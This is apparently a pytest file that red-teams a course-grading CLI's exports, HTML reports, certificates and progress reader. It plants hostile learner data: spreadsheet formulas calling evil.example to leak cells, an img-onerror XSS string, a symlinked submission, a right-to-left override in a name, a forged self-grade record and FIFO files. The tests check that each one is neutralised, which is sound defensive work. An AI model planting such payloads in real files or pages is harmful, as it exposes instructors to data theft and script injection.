"""A hostile learner against the instructor's files: spreadsheets, report pages, certificates, progress records.

Each test reproduces an attack on a real course: the shared graded cohort
(tests/completion_cohort.py, graded once per session) copied, given learner
names a hub or an LMS could have let learners choose, and one more learner,
``mal``, whose hand-in is a link named like a formula, graded by real
``mlteam-course grade``. Then the instructor's own commands run on it as they
would: ``export`` (all three CSVs, Canvas and Moodle files), ``report``,
``certificate --cohort``, and a self-learner's ``progress``.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import stat
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
from nbgrader.api import Gradebook

from completion_cohort import COURSE_ID, EX02, completion_cohort, copy_cohort, db_url
from completion_cohort import mlteam_course as mlteam_course_process
from course_helpers import Submission, submit

pytestmark = pytest.mark.nbgrader

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Ana")'
IMG = "<img src=x onerror=alert(1)>"
#: learner -> (first name, last name, e-mail) as the gradebook holds them
NAMES = {"ana": (HYPERLINK, IMG, "ana@example.org"), "eve": ("-2+3", "@SUM(1)", "-7")}
#: the learner-chosen file name: a formula after a ';' (a new cell in Excel's ';' locales)
LINK_NAME = 'y;=HYPERLINK("evil.example?"&A2).ipynb'  # no "/": a file name
ROSTER = (
    "learner_id,name,canvas_user_id,section,email\n"
    'ana,"Ana;=HYPERLINK(1)",101,A,ana@example.org\n'
    "ben,Ben,102,@A,ben@example.org\n"
    "eve,Eve,105,A,eve@example.org\n"
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def mlteam_course(course: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The command's own entry point, in this process (a second interpreter would cost ~1.5 s a call)."""
    from mlteam_utils.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = main(["--course-root", str(course), *args])
    return subprocess.CompletedProcess(args, status, out.getvalue(), err.getvalue())


def would_run(piece: str) -> bool:
    """What a spreadsheet runs as a formula (OWASP's list), a plain number apart."""
    return piece.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(piece)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The cohort with hostile names and ``mal``'s hand-in graded, exported and reported into ``out/``."""
    course = copy_cohort(completion_cohort(tmp_path_factory), tmp_path_factory.mktemp("redteam") / "course")
    with Gradebook(db_url(course), course_id=COURSE_ID) as gradebook:
        for learner, (first, last, email) in NAMES.items():
            gradebook.update_or_create_student(learner, first_name=first, last_name=last, email=email)
    folder = submit(course, "mal", EX02, {EX02: Submission('{"cells": [')})
    (folder / f"{EX02}.ipynb").unlink()
    (folder / LINK_NAME).symlink_to(course / "course" / "gradebook.db")
    graded = mlteam_course_process(course, "grade", EX02, "--learner", "mal", "--quiet", "--no-isolation")
    assert graded.returncode == 1 and "mal/" in graded.stdout, graded.stdout + graded.stderr
    out = course / "out"
    (out / "roster.csv").parent.mkdir()
    (out / "roster.csv").write_text(ROSTER, encoding="utf-8")
    for args in (["export", "--to", str(out / "grades.csv")], ["report", "--to", str(out / "report")],
                 ["export", "--format", "canvas", "--roster", str(out / "roster.csv"), "--to", str(out / "canvas.csv")],
                 ["export", "--format", "moodle", "--roster", str(out / "roster.csv"), "--to", str(out / "moodle.csv")]):
        run = mlteam_course(course, *args)
        assert run.returncode == 0, (args, run.stdout, run.stderr)
    return course


def test_no_csv_cell_is_a_formula_in_any_spreadsheet_locale(hostile: Path) -> None:
    out = hostile / "out"
    files = sorted(path for path in out.rglob("*.csv") if path.name != "roster.csv")
    assert {"grades.csv", "grades.long.csv", "grades.submissions.csv", "completion_by_learner.csv", "learners.csv",
            "canvas.csv", "moodle.csv"} <= {path.name for path in files}
    for path in files:
        text = path.read_text(encoding="utf-8")
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not [cell for cell in row if would_run(cell)], (path.name, row)
        # Excel in a ';' locale splits each line on ';' and ignores the commas: no piece may start a formula.
        for line in text.splitlines():
            assert not [piece for piece in line.split(";") if would_run(piece)], (path.name, line)

    # The attack reached the files, shown as text; numbers stayed numbers.
    wide = pd.read_csv(out / "grades.csv", dtype={"student_id": str, "email": str}, keep_default_na=False).set_index("student_id")
    assert wide.loc["ana", "first_name"] == "'" + HYPERLINK and wide.loc["eve", "first_name"] == "'-2+3"
    assert wide.loc["eve", "last_name"] == "'@SUM(1)" and wide.loc["eve", "email"] == "-7"
    assert pd.api.types.is_float_dtype(wide["total"]) and wide.loc["ana", "total"] > 0
    reasons = pd.read_csv(out / "grades.submissions.csv", keep_default_na=False)
    (mal,) = reasons[(reasons["student_id"] == "mal") & (reasons["assignment"] == EX02)]["reason"]
    assert "y;'=HYPERLINK" in mal, mal
    canvas = list(csv.reader(io.StringIO((out / "canvas.csv").read_text(encoding="utf-8"), newline="")))
    assert canvas[2][:5] == ["Ana;'=HYPERLINK(1)", "101", "", "", "A"] and canvas[3][4] == "'@A", canvas


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


INLINE_PNG = re.compile(r"data:image/png;base64,[A-Za-z0-9+/]+={0,2}")


def test_report_pages_show_hostile_names_as_text(hostile: Path) -> None:
    pages = sorted((hostile / "out" / "report").rglob("*.html"))
    assert len(pages) >= 1 + 1 + 6  # the report, the learners' index, a page per learner
    for page in pages:
        parser = _Tags()
        parser.feed(page.read_text(encoding="utf-8"))
        for tag, attrs in parser.tags:
            assert tag not in ("script", "iframe", "object", "embed", "svg"), (page.name, tag)
            assert not [name for name, _ in attrs if name.startswith("on")], (page.name, tag, attrs)
            # A chart is a PNG file beside the page or inline, as base64 data and nothing else.
            source = dict(attrs).get("src") or ""
            assert tag != "img" or source.endswith(".png") or INLINE_PNG.fullmatch(source), (page.name, attrs)
    ana = (hostile / "out" / "report" / "learners" / "ana.html").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt;" in ana
    mal = (hostile / "out" / "report" / "learners" / "mal.html").read_text(encoding="utf-8")
    assert "y;=HYPERLINK(&quot;evil.example?&quot;&amp;A2).ipynb is a symbolic link" in mal


def test_names_with_hidden_characters_get_no_certificate_and_self_grades_do_not_count(
    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path
) -> None:
    course = copy_cohort(completion_cohort(tmp_path_factory), tmp_path / "course")
    with Gradebook(db_url(course), course_id=COURSE_ID) as gradebook:
        gradebook.update_or_create_student("ana", first_name="Ana\n", last_name=" Lopez\t")  # line breaks: one line
        gradebook.update_or_create_student("ben", first_name="Ben\u202e", last_name="rofakO")  # reads "Ben Okafor" printed
    # cat planted a self-grade record claiming every exercise passed, in the course's own work area.
    work = course / "my-work"
    work.mkdir()
    (work / ".mlteam-workspace.json").write_text("{}", encoding="utf-8")
    claimed = {"score": 99.0, "max_score": 99.0, "pass_mark": 1.0, "passed": True, "first_passed": "2026-01-01T00:00:00+00:00"}
    (work / ".mlteam-selfgrade.json").write_text(json.dumps(
        {"schema": "mlteam-selfgrade/1", "exercises": {name: claimed for name in ("ex01_how_ml_projects_differ", EX02)}}))
    run = mlteam_course(course, "certificate", "--cohort")
    assert run.returncode == 1, run.stdout + run.stderr
    assert run.stdout.startswith("1 certificate(s) issued, 3 learner(s) did not qualify, 1 could not be made."), run.stdout
    assert "not made ben: the name holds an invisible or control character (U+202E)" in run.stdout
    assert "not qualified cat: 1 of 2 modules completed" in run.stdout
    code = re.search(r"issued ana: .* \(code (MLT-[A-Z2-7-]+)\)", run.stdout)
    assert code is not None, run.stdout
    verified = mlteam_course(course, "verify", code.group(1), "--pdf", str(course / "course" / "certificates" / "certificate-ana.pdf"))
    assert verified.returncode == 0 and "\n  Ana Lopez\n" in verified.stdout, verified.stdout + verified.stderr


def test_progress_records_that_are_pipes_links_or_huge_are_named_not_followed(tmp_path: Path) -> None:
    work = tmp_path / "my-work"
    exercise = work / "exercises" / "ex01_how_ml_projects_differ"
    exercise.mkdir(parents=True)
    (work / ".mlteam-workspace.json").write_text("{}", encoding="utf-8")
    os.mkfifo(work / ".mlteam-progress.json")  # read_text() would wait on it for ever
    (work / ".mlteam-selfgrade.json").symlink_to("/dev/zero")
    os.mkfifo(exercise / "ex01_how_ml_projects_differ.ipynb")
    with (exercise / "ex01_how_ml_projects_differ.answers.json").open("wb") as handle:
        handle.truncate(5 * 1024 * 1024)
    shown = subprocess.run(
        [sys.executable, "-m", "mlteam_utils.cli", "--course-root", str(ROOT), "progress", "--folder", str(work)],
        capture_output=True, text=True, timeout=120, check=False, stdin=subprocess.DEVNULL,
    )
    assert shown.returncode == 0 and "Traceback" not in shown.stderr, shown.stderr
    for line in (".mlteam-progress.json is a named pipe (FIFO), not a record: not read",
                 ".mlteam-selfgrade.json is a symbolic link, not a record: not read",
                 "ex01_how_ml_projects_differ.ipynb is a named pipe (FIFO), not a notebook: not read",
                 "ex01_how_ml_projects_differ.answers.json is larger than 4 MB, not a record: not read"):
        assert line in shown.stdout, shown.stdout

    # Pressing Check in a lesson sets the pipe aside and starts a fresh record, without waiting on it.
    checked = subprocess.run(
        [sys.executable, "-c", "import sys; from pathlib import Path; from mlteam_utils.progress_log import record_check;"
         "print(record_check('kc_x', '01_x', 1.0, start=Path(sys.argv[1])))", str(work / "exercises")],
        capture_output=True, text=True, timeout=120, check=False, stdin=subprocess.DEVNULL,
    )
    assert checked.stdout.strip() == "True", checked.stderr
    (aside,) = work.glob(".mlteam-progress.json.bad-*")
    assert stat.S_ISFIFO(aside.lstat().st_mode) and "kc_x" in (work / ".mlteam-progress.json").read_text(encoding="utf-8")
